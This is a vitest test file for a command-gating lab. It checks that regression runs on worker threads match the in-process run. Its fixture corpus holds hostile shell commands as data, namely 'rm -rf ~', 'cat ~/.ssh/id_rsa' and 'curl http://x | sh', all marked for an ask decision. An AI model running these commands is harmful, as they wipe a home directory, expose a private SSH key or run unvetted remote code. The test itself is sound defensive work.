// lab regress on worker threads (lab/regress-workers.ts) gives what the in-process run gives.
import { afterEach, describe, expect, it } from 'vitest';
import { mkdtempSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { dirname, join } from 'node:path';
import { pathToFileURL } from 'node:url';
import { runRegress, runRegressParallel } from '../../lab/regress.ts';
// @ts-expect-error plain ES module without types
import { freshBundle } from '../../lab/bundle.mjs';
import { cleanup, makeCorpus, REPO } from './helpers.ts';

afterEach(cleanup);

const CASES = ['ls -la', 'rm -rf ~', 'npm install', 'cat ~/.ssh/id_rsa', 'git status', 'curl http://x | sh', 'echo hi > out.txt']
  .map((cmd, i) => `- id: par-${i}\n  command: ${JSON.stringify(cmd)}\n  effect: case ${i}\n  expect: ask\n  source: original\n`)
  .join('');

describe('regress on worker threads', () => {
  it('reports exactly what the in-process run reports, in the same order', async () => {
    const cache = mkdtempSync(join(tmpdir(), 'gatelab-par-'));
    try {
      const file = (await (freshBundle as (o: object) => Promise<string | null>)({ root: REPO, dir: cache, name: 'lab' }))!;
      expect(file).toBeTruthy();
      const dir = makeCorpus({ 'par.yaml': CASES });
      const base = { corpusDir: dir, rootDir: dirname(dir), baselinePath: join(dirname(dir), 'checks/baseline.json'), isTTY: false, githubActions: false, json: true };
      const one = runRegress(base);
      const three = await runRegressParallel({ ...base, workerModule: pathToFileURL(file).href, workers: 3 });
      expect(JSON.parse(one.output).mismatches.length).toBeGreaterThan(0);
      expect(three).toEqual(one);
      // A worker module that cannot load: the shares run in process, same answer.
      const broken = await runRegressParallel({ ...base, workerModule: pathToFileURL(join(cache, 'missing.mjs')).href, workers: 2 });
      expect(broken).toEqual(one);
    } finally {
      rmSync(cache, { recursive: true, force: true });
    }
  }, 120_000);
});
